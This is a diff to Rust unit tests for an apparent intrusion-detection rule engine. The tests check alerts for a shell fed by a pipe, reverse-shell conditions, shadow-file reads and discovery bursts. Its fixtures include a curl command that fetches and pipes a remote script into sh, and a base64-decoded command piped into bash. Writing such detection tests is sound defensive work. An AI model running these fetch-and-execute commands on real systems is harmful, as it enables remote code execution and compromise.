@@ -149,6 +149,8 @@ fn shell_with_tty_stdio_is_not_a_reverse_shell() {
 
 #[test]
 fn curl_pipe_shell_and_shadow_read_and_dev_shm() {
+    // A shell reading a pipe, started by a command line that pipes into it.
+    let piped = |parent: &str| json!({"process": {"parent": {"command_line": parent}}, "sensor": {"stdio": {"stdin": "pipe"}}});
     let mut engine = builtin();
     let alerts = run(
         &mut engine,
@@ -157,15 +159,15 @@ fn curl_pipe_shell_and_shadow_read_and_dev_shm() {
                 0.0,
                 10,
                 "/usr/bin/dash",
-                "sh -c curl -fsSL http://198.51.100.7/i.sh | sh",
-                json!({}),
+                "sh",
+                piped("sh -c curl -fsSL http://198.51.100.7/i.sh | sh"),
             ),
             exec(
                 1.0,
                 11,
                 "/usr/bin/bash",
-                "bash -c echo aWQK | base64 -d | bash",
-                json!({}),
+                "bash",
+                piped("bash -c echo aWQK | base64 -d | bash"),
             ),
             exec(
                 2.0,
@@ -187,17 +189,20 @@ fn curl_pipe_shell_and_shadow_read_and_dev_shm() {
             ),
         ],
     );
-    let pids: Vec<i64> = alerts
+    let mut pids: Vec<i64> = alerts
         .iter()
         .filter_map(|a| a["process"]["pid"].as_i64())
         .collect();
-    assert_eq!(pids, [10, 11, 13, 16, 17], "{:?}", titles(&alerts));
+    pids.dedup();
+    // 12 only downloads; sshd reading the shadow file is expected; vi writing it is not.
+    assert_eq!(pids, [10, 11, 13, 15, 16, 17], "{:?}", titles(&alerts));
 }
 
 #[test]
 fn discovery_burst_counts_distinct_programs_per_parent() {
     let mut engine = builtin();
-    let parent = |ppid: u32| json!({"process": {"parent": {"pid": ppid}}});
+    let parent =
+        |ppid: u32| json!({"process": {"parent": {"pid": ppid, "entity_id": format!("p{ppid}")}}});
     let mut events = Vec::new();
     // The same program four times is not a burst.
     for i in 0..4 {
@@ -232,7 +237,8 @@ fn discovery_burst_counts_distinct_programs_per_parent() {
 
 #[test]
 fn verdict_cache_changes_nothing_but_speed() {
-    let parent = |ppid: u32| json!({"process": {"parent": {"pid": ppid}}});
+    let parent =
+        |ppid: u32| json!({"process": {"parent": {"pid": ppid, "entity_id": format!("p{ppid}")}}});
     let socket = json!({"sensor": {"stdio": {"stdin": "socket", "stdout": "socket"}}});
     let mut events = Vec::new();
     for round in 0..3 {
